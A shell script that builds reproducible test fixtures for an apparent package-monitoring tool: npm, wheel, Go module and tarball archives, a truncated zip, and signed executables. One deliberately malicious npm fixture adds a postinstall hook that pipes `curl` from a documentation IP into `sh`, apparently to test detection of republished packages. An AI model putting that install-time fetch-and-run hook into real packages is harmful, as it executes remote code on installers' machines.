#!/bin/sh
# Builds the watch package's fixtures with the real tools: npm pack for
# npm tarballs, zip for wheels and Go module zips, tar for index-page
# downloads. Reproducible: fixed mtimes, sorted entries, no extra fields.
set -eu
cd "$(dirname "$0")"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export TZ=UTC SOURCE_DATE_EPOCH=1700000000

# npm: left-pad-ish package, three honest versions and a re-published
# 1.0.1 whose install script reaches out (same version, other bytes).
npmpkg() { # version dir-suffix extra-json
	d="$work/npm-$1$2"
	mkdir -p "$d"
	printf '{"name":"tiny-pad","version":"%s","main":"index.js"%s}\n' "$1" "$3" >"$d/package.json"
	printf 'module.exports = function pad(s, n) { return String(s).padStart(n); };\n' >"$d/index.js"
	if [ -n "$2" ]; then
		printf "require('child_process').exec('curl -s http://203.0.113.7/p.sh | sh');\n" >"$d/install.js"
	fi
	(cd "$d" && npm pack --silent --pack-destination "$work" >/dev/null)
	mv "$work/tiny-pad-$1.tgz" "tiny-pad-$1$2.tgz"
}
npmpkg 1.0.0 "" ""
npmpkg 1.0.1 "" ""
npmpkg 1.0.2 "" ""
npmpkg 1.0.1 "-evil" ',"scripts":{"postinstall":"node install.js"}'

# PyPI: two wheels (zip files) of a tiny project.
wheel() { # version
	d="$work/whl-$1"
	mkdir -p "$d/tinypkg" "$d/tinypkg-$1.dist-info"
	printf 'def hello():\n    return "hi"\n' >"$d/tinypkg/__init__.py"
	printf 'Metadata-Version: 2.1\nName: tinypkg\nVersion: %s\n' "$1" >"$d/tinypkg-$1.dist-info/METADATA"
	find "$d" -exec touch -d @1700000000 {} +
	(cd "$d" && find . -type f | sort | sed 's|^\./||' | zip -q -X -D -@ "$work/w.zip")
	mv "$work/w.zip" "tinypkg-$1-py3-none-any.whl"
}
wheel 0.1.0
wheel 0.2.0

# Go module proxy: module zips laid out as module@version/...
gozip() { # version
	d="$work/gomod-$1/example.com/tiny@$1"
	mkdir -p "$d"
	printf 'module example.com/tiny\n\ngo 1.22\n' >"$d/go.mod"
	printf 'package tiny\n\nfunc Hello() string { return "hi %s" }\n' "$1" >"$d/tiny.go"
	find "$work/gomod-$1" -exec touch -d @1700000000 {} +
	(cd "$work/gomod-$1" && find . -type f | sort | sed 's|^\./||' | zip -q -X -D -@ "$work/g.zip")
	mv "$work/g.zip" "tiny-$1.zip"
}
gozip v1.0.0
gozip v1.1.0

# Index page downloads: tarballs.
for v in 2.0.0 2.1.0; do
	d="$work/tool-$v"
	mkdir -p "$d"
	printf '#!/bin/sh\necho tool %s\n' "$v" >"$d/tool.sh"
	tar --sort=name --mtime=@1700000000 --owner=0 --group=0 --numeric-owner -C "$work" -czf "tool-$v.tar.gz" "tool-$v"
done

# fail_truncated.zip: a zip cut in half, which no parser can open.
mkdir -p "$work/t"
head -c 4000 /dev/zero | tr '\0' 'a' >"$work/t/a.txt"
touch -d @1700000000 "$work/t/a.txt"
(cd "$work/t" && zip -q -X -0 "$work/t.zip" a.txt)
head -c 2000 "$work/t.zip" >fail_truncated.zip

# hello-signed-{halyard,norvale}.exe: the same program Authenticode-signed
# (osslsigncode) by two different publishers. They are copies of
# analyze/pe/testdata/{signed,resigned}.exe, built by that package's
# make-fixtures.sh; copy them again if that script changes them.
cp ../../analyze/pe/testdata/signed.exe hello-signed-halyard.exe
cp ../../analyze/pe/testdata/resigned.exe hello-signed-norvale.exe
